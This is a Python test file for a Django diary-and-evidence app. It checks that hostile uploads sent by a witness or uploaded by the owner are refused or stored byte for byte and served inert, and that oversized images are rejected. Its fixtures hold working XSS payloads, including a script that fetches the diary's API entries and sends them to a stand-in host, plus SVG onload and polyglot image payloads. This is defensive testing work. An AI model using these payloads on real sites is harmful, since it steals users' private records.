"""He sends files meant to run in her browser: through a contact's link into her inbox, or
as a "gift" she photographs and uploads. Each is refused, or kept byte for byte and only
ever served inert: as a download, with its real type, never sniffed, never as a page."""

from pathlib import Path

import pytest
from django.urls import reverse

from diary import messages
from diary.models import Evidence
from tests.conftest import confirmed
from tests.factories import jpeg_bytes, upload
from tests.security.conftest import HER_PHONE, body, browser
from tests.test_bad_input import png_with_size
from witnesses.models import Submission, SubmissionFile
from witnesses.services.links import witness_invite

SCRIPT = b"<script>fetch('/api/entries/').then(r=>r.text()).then(t=>location='//x/?'+t)</script>"
HOSTILE = {
    "page.html": b"<!DOCTYPE html><html><body>" + SCRIPT + b"</body></html>",
    "picture.svg": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">'
    + SCRIPT
    + b"</svg>",
    "photo.svg": b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"></svg>',
    "polyglot.jpg": jpeg_bytes() + b"<html>" + SCRIPT + b"</html>",
    "polyglot.gif": b"GIF89a/*<svg onload=alert(1)>*/=1;" + SCRIPT,
}
INERT_TYPES = {"image/jpeg", "image/png", "image/gif", "image/webp", "image/heic"}


def stored(settings) -> list[Path]:
    root = Path(settings.MEDIA_ROOT)
    return [p for p in root.rglob("*") if p.is_file()] if root.exists() else []


def assert_inert(response, *, download: bool) -> None:
    assert response.status_code == 200
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Type"].split(";")[0] in INERT_TYPES
    assert "default-src 'self'" in response["Content-Security-Policy"]
    if download:
        assert response["Content-Disposition"].startswith("attachment;")
    else:
        content = b"".join(response.streaming_content)
        assert b"<script" not in content and b"<svg" not in content and b"<html" not in content


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_what_he_sends_through_a_link_is_refused_or_inert(owner, settings, name):
    _, token = witness_invite(diary=owner.diary, actor=owner, name="Pat", relationship="neighbour")
    him = browser()
    him.get(f"/w/{token}")
    files_before = stored(settings)
    response = him.post(
        reverse("witness:home"),
        {
            "kind": "saw",
            "occurred_start": "2026-11-20T17:30",
            "precision": "exact",
            "what_happened": "Look at this.",
            "statement": "no",
            "files": [upload(name, HOSTILE[name], "image/jpeg")],
        },
    )
    her = browser(agent=HER_PHONE)
    her.force_login(owner)
    confirmed(her)  # originals are handed over only after a confirmation
    if response.status_code == 400:
        assert not Submission.objects.exists()
        assert stored(settings) == files_before
        return
    assert response.status_code == 302
    kept = SubmissionFile.objects.get()
    assert kept.original_file.open().read() == HOSTILE[name]  # byte for byte, as evidence must be
    assert_inert(her.get(reverse("witnesses:file_original", args=[kept.pk])), download=True)
    if kept.preview:
        assert_inert(her.get(reverse("witnesses:file_preview", args=[kept.pk])), download=False)
    inbox = body(her.get(reverse("witnesses:submission", args=[kept.submission_id])))
    assert "<script>fetch" not in inbox


@pytest.mark.parametrize("name", sorted(HOSTILE))
def test_what_she_uploads_for_him_is_refused_or_inert(owner, settings, name):
    her = browser(agent=HER_PHONE)
    her.force_login(owner)
    confirmed(her)  # originals are handed over only after a confirmation
    entry = owner.sentinel_entry
    files_before = stored(settings)
    response = her.post(
        reverse("diary:evidence_add", args=[entry.pk]),
        {"file": upload(name, HOSTILE[name], "image/jpeg"), "kind": "", "description": ""},
    )
    if response.status_code == 200:
        assert "content" in body(response)  # the form says what is wrong with the file
        assert not Evidence.objects.exists()
        assert stored(settings) == files_before
        return
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    assert evidence.original_file.open().read() == HOSTILE[name]
    assert_inert(her.get(reverse("diary:evidence_original", args=[evidence.pk])), download=True)
    assert_inert(her.get(f"/api/evidence/{evidence.pk}/original"), download=True)
    if evidence.preview:
        assert_inert(her.get(reverse("diary:evidence_preview", args=[evidence.pk])), download=False)


def test_html_and_svg_are_refused_not_kept(owner, settings):
    """The two that could run as a page never get that far."""
    her = browser(agent=HER_PHONE)
    her.force_login(owner)
    confirmed(her)  # originals are handed over only after a confirmation
    for name in ("page.html", "picture.svg", "photo.svg"):
        response = her.post(
            reverse("diary:evidence_add", args=[owner.sentinel_entry.pk]),
            {"file": upload(name, HOSTILE[name], "image/jpeg")},
        )
        assert response.status_code == 200, name
    assert not Evidence.objects.exists()
    assert stored(settings) == []


# 63 MP: under Pillow's own ceiling (89 MP), over any phone photo at full resolution.
OVER_THE_CEILING = (9_000, 7_000)


def test_an_image_over_the_pixel_ceiling_is_refused_with_a_clear_error(owner, settings):
    her = browser(agent=HER_PHONE)
    her.force_login(owner)
    entry = owner.sentinel_entry
    bomb = png_with_size(*OVER_THE_CEILING)
    page = her.post(
        reverse("diary:evidence_add", args=[entry.pk]),
        {"file": upload("big.png", bomb, "image/png")},
    )
    assert page.status_code == 200
    assert str(messages.IMAGE_TOO_LARGE) in body(page)
    api = her.post(
        f"/api/entries/{entry.pk}/evidence/", {"file": upload("big.png", bomb, "image/png")}
    )
    assert api.status_code == 400
    assert api.json() == {"file": [str(messages.IMAGE_TOO_LARGE)]}

    _, token = witness_invite(diary=owner.diary, actor=owner, name="Pat", relationship="neighbour")
    him = browser()
    him.get(f"/w/{token}")
    sent = him.post(
        "/api/witness/submissions/",
        {"kind": "saw", "what_happened": "Look.", "files": [upload("big.png", bomb, "image/png")]},
    )
    assert sent.status_code == 400
    assert sent.json() == {"files": [str(messages.IMAGE_TOO_LARGE)]}
    assert not Evidence.objects.exists()
    assert not Submission.objects.exists()
    assert stored(settings) == []


def test_a_full_resolution_phone_photo_is_still_taken(owner, settings):
    her = browser(agent=HER_PHONE)
    her.force_login(owner)
    photo = jpeg_bytes(size=(8_064, 6_048))  # a 48 MP iPhone's full resolution
    response = her.post(
        reverse("diary:evidence_add", args=[owner.sentinel_entry.pk]),
        {"file": upload("IMG_4800.jpg", photo)},
    )
    assert response.status_code == 302
    evidence = Evidence.objects.get()
    assert evidence.original_file.open().read() == photo
    assert evidence.preview
